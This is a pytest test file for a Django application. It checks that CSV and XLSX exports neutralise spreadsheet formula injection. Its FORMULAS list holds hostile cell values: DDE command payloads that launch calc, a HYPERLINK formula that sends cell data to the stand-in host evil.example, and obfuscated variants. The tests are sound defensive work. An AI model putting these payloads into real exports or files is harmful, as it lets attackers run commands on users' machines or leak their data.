"""Does a spreadsheet run anything that somebody typed? (fault F12, formula injection in CSV and XLSX)"""

import csv
import io

import openpyxl
import pytest
from django.db import transaction
from django.urls import reverse

from samsyn.audit import services as audit
from samsyn.domain.cells import safe_cell
from samsyn.domain.vocabulary import AuditKind
from samsyn.organisations.models import Unit
from samsyn.organisations.unit_table import read_unit_table
from tests.builders import NOW, make_cast
from tests.web.hostile_world import body_of, client_of, make_hostile_world, undone

pytestmark = pytest.mark.django_db

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/"&A1;"x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '"=1+1',
    "x;=1+1",
    'x";"=1+1',
    "x\r\n=1+1;=1+1",
    "%0A-1",
]
SHORT = '=1+1;"x"|\'-'
RUNS = tuple("=+-@\t\r\n＝＋－＠")
"""What a cell must not begin with, blanks aside."""


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock(), transaction.atomic():
        world = make_hostile_world(
            make_cast(), short=SHORT, long="\n".join(FORMULAS), titles=FORMULAS
        )
        yield world
        transaction.set_rollback(True)


FILES = {
    "files:inbox_csv": ("bo", []),
    "files:sent_csv": ("astrid", []),
    "files:copies_csv": ("doris", []),
    "files:case_csv": ("astrid", ["theirs"]),
    "files:copy_csv": ("doris", ["theirs"]),
    "registry:table": ("gudmund", []),
    "audit:export": ("gudmund", []),
    "statistics:download": ("doris", []),
    "files:inbox_xlsx": ("bo", []),
    "files:sent_xlsx": ("astrid", []),
    "files:copies_xlsx": ("doris", []),
}


def got(world, name, **query):
    person, things = FILES[name]
    path = reverse(name, args=[world.things[thing] for thing in things])
    with undone():
        response = client_of(world, person).get(path, query)
        assert response.status_code == 200
        return body_of(response)


def rows_of(content):
    if content.startswith(b"PK"):
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        return [[cell.value for cell in row] for row in sheet.iter_rows()]
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";", strict=True))


def dangerous(rows):
    texts = [cell for row in rows for cell in row if isinstance(cell, str)]
    return [text for text in texts if text.lstrip(" \u00a0").startswith(RUNS)]


@pytest.mark.parametrize("name", FILES)
def test_no_cell_begins_like_a_formula(world, name):
    asked = [{}]
    if name == "statistics:download":
        asked = [{"by": "reporter_unit", "scope": "all"}, {"by": "theme", "scope": "all"}]
        asked.append({"by": "recipient_unit", "also_by": "reporter_municipality", "scope": "all"})
    guarded = 0
    for query in asked:
        rows = rows_of(got(world, name, **query))
        assert not dangerous(rows)
        widths = {len(row) for row in rows if row}
        if "statistics" not in name:
            assert len(widths) == 1, "a text broke out of its cell"
        guarded += sum("'" + SHORT[:2] in str(cell) for row in rows for cell in row)
    assert guarded, "no hostile text came into the file: has a column moved?"


@pytest.mark.parametrize("name", ["files:inbox_xlsx", "files:sent_xlsx", "files:copies_xlsx"])
def test_in_xlsx_no_text_is_a_formula_or_a_link(world, name):
    book = openpyxl.load_workbook(io.BytesIO(got(world, name)))
    for row in book.active.iter_rows():
        for cell in row:
            assert cell.data_type in {"s", "n"}, cell.value
            assert cell.hyperlink is None


def test_the_texts_are_otherwise_whole(world):
    """The guard is one apostrophe before; nothing is cut, doubled or lost."""
    titles = {row[1] for row in rows_of(got(world, "files:inbox_csv"))[1:]}
    # A carriage return in a title is a blank in a form; here it came by the service as it was.
    assert {safe_cell(title) for title in FORMULAS} <= titles


def test_the_register_comes_back_as_it_left(world):
    """What the guard adds, reading the table takes away: no unit changes by a round trip."""
    rows = read_unit_table(got(world, "registry:table").decode())
    assert len(rows) == Unit.objects.filter(valid_to=None).count()
    for row in rows:
        unit = Unit.objects.get(key=row.cell("id"))
        for column in ("name", "note", "contact_function", "sdk_address", "function_mailbox"):
            assert row.cell(column) == getattr(unit, column).strip(), column


@pytest.mark.parametrize("formula", FORMULAS[:15])
def test_the_register_guards_every_kind_of_formula(world, formula):
    unit = Unit.objects.get(pk=world.things["bup"])
    with undone():
        Unit.objects.filter(pk=unit.pk).update(note=formula, contact_function=formula)
        rows = rows_of(got(world, "registry:table"))
    assert not dangerous(rows)


@pytest.mark.parametrize("formula", FORMULAS[:15])
def test_the_log_guards_every_kind_of_formula(world, formula):
    with undone():
        audit.record(AuditKind.READ, by=None, now=NOW, label=formula, reason=formula)
        rows = rows_of(got(world, "audit:export"))
    assert not dangerous(rows)
